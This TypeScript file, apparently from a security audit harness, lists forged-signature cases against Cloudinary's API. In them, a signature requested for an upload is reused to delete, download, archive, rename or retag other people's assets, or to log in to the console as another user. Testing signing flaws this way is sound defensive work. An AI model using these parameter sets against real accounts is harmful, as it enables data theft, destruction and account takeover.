// Signatures that are asked for as an upload's, and are valid for another method of Cloudinary's API. The names of
// their parameters are those that the official SDK sends.

import type { Attack } from "./attack.ts";
import { asAddress, asRequest } from "./proofs.ts";
import { type Params, utils } from "./sdk.ts";

type Row = Omit<Attack, "kind" | "timestamp">;

/** Rows whose parameters are sent to Cloudinary as they were asked for. */
const request = (
  id: string,
  title: string,
  ask: Attack["ask"],
  build: (victim: string) => Params = (victim) => ask(victim, 0),
): Row => ({ id, title, ask, proof: asRequest(build) });

const ROWS: readonly Row[] = [
  request("destroy", "delete an asset that is not theirs", (public_id) => ({ public_id })),
  request("destroy-private", "delete a private original, and its copies on the CDN", (public_id) => ({
    public_id,
    type: "private",
    invalidate: true,
  })),
  request("destroy-and-tell", "delete an asset, and be told when it is gone", (public_id) => ({
    public_id,
    notification_url: "https://audit.invalid/gone",
  })),
  request(
    "explicit",
    "change the tags of an existing asset",
    (public_id) => ({ public_id, tags: `${public_id}-tag`, type: "upload" }),
    (victim) => utils.build_explicit_api_params(victim, { tags: `${victim}-tag`, type: "upload" })[0],
  ),
  request(
    "explicit-access",
    "make an existing private asset public",
    (public_id) => ({ public_id, access_mode: "public", type: "authenticated" }),
    (victim) => utils.build_explicit_api_params(victim, { access_mode: "public", type: "authenticated" })[0],
  ),
  {
    id: "download",
    title: "download the original of any asset",
    ask: (public_id) => ({ public_id }),
    proof: asAddress((victim, options) => utils.private_download_url(victim, undefined, options)),
  },
  {
    id: "download-private",
    title: "download the original of a private asset",
    ask: (public_id) => ({ public_id, format: "jpg", type: "private" }),
    proof: asAddress((victim, options) =>
      utils.private_download_url(victim, "jpg", { ...options, type: "private" }),
    ),
  },
  request("explode", "split a document that is not theirs into public pages", (public_id) => ({
    public_id,
    transformation: "pg_all",
  })),
  request(
    "archive-tags",
    "pack everything that carries a tag into an archive, private originals too",
    (tags) => ({ tags }),
    (victim) => utils.archive_params({ tags: victim }),
  ),
  {
    id: "archive-download",
    title: "download everything that carries a tag",
    ask: (tags) => ({ tags, mode: "download", target_format: "zip" }),
    proof: asAddress((victim, options) => utils.download_zip_url({ ...options, tags: victim })),
  },
  request(
    "archive-ids",
    "pack assets of their choice into an archive",
    (public_ids) => ({ public_ids }),
    (victim) => utils.archive_params({ public_ids: [victim] }),
  ),
  request(
    "archive-qualified",
    "pack assets of their choice and of any type into an archive",
    (victim) => ({ fully_qualified_public_ids: `image/authenticated/${victim}` }),
    (victim) => utils.archive_params({ fully_qualified_public_ids: [`image/authenticated/${victim}`] }),
  ),
  {
    id: "archive-folder",
    title: "download a whole folder",
    ask: (prefixes) => ({ prefixes, mode: "download" }),
    proof: asAddress((victim, options) => utils.download_folder(victim, { ...options })),
  },
  request("rename", "rename an asset that is not theirs, or hide it", (from_public_id) => ({
    from_public_id,
    to_public_id: `${from_public_id}-gone`,
  })),
  request("tags-add", "put a tag on assets of their choice", (victim) => ({
    command: "add",
    public_ids: victim,
    tag: `${victim}-tag`,
  })),
  request("tags-remove", "take all tags off assets of their choice", (victim) => ({
    command: "remove_all",
    public_ids: victim,
  })),
  request(
    "context",
    "change the context of assets of their choice",
    (victim) => ({ command: "add", context: `alt=${victim}`, public_ids: victim }),
    (victim) => ({ command: "add", context: utils.encode_context({ alt: victim }), public_ids: [victim] }),
  ),
  request(
    "metadata",
    "change the structured metadata of assets of their choice",
    (victim) => ({ metadata: `approved=${victim}`, public_ids: victim }),
    (victim) => ({ metadata: utils.encode_context({ approved: victim }), public_ids: [victim] }),
  ),
  request(
    "sprite",
    "make one public picture of everything that carries a tag",
    (tag) => ({ tag }),
    (victim) => utils.build_multi_and_sprite_params(victim, {}),
  ),
  request(
    "multi",
    "make one public animation of everything that carries a tag",
    (tag) => ({ tag, transformation: "c_scale,w_100" }),
    (victim) => utils.build_multi_and_sprite_params(victim, { width: 100, crop: "scale" }),
  ),
  request(
    "sprite-urls",
    "let the account fetch addresses of their choice",
    (victim) => ({ urls: `https://${victim}.invalid/a.jpg,https://${victim}.invalid/b.jpg` }),
    (victim) =>
      utils.build_multi_and_sprite_params({
        urls: [`https://${victim}.invalid/a.jpg`, `https://${victim}.invalid/b.jpg`],
      }),
  ),
  request("concat", "join videos from addresses of their choice into an asset of the account", (victim) => ({
    urls: `https://${victim}.invalid/a.mp4,https://${victim}.invalid/b.mp4`,
    public_id: `${victim}-video`,
  })),
  request("slideshow", "make a public video of assets that are not theirs", (victim) => ({
    manifest_json: JSON.stringify({ vars: { slides: [{ media: `i:${victim}` }] } }),
  })),
  request("collage", "make a public picture of assets that are not theirs", (victim) => ({
    manifest_json: JSON.stringify({ template: "grid", assets: [{ media: victim }] }),
  })),
  request("text", "make images of any text, under a name of their choice", (public_id) => ({
    public_id,
    text: "audit",
  })),
  {
    id: "tag-zip",
    title: "download everything that carries a tag, by the older address",
    ask: (tag) => ({ tag }),
    proof: asAddress((victim, options) => utils.zip_download_url(victim, options)),
  },
  request("destroy-by-asset-id", "delete an asset that is not theirs, by its asset ID", (asset_id) => ({
    asset_id,
    invalidate: true,
  })),
  request("download-by-asset-id", "download the original of any asset, by its asset ID", (asset_id) => ({
    asset_id,
  })),
  {
    id: "backup",
    title: "download the backup of an asset that is not theirs",
    ask: (victim) => ({ asset_id: victim, version_id: `${victim}-1` }),
    proof: asAddress((victim, options) => utils.download_backedup_asset(victim, `${victim}-1`, options)),
  },
  {
    ...request("login", "log in to the console and the Media Library as somebody else", (victim) => ({
      cloud_name: victim,
      username: `${victim}@audit.invalid`,
    })),
    algorithm: "sha256",
  },
];

export const FORGERIES: readonly Attack[] = ROWS.map((row) => ({
  timestamp: "any",
  ...row,
  kind: "forgery",
}));
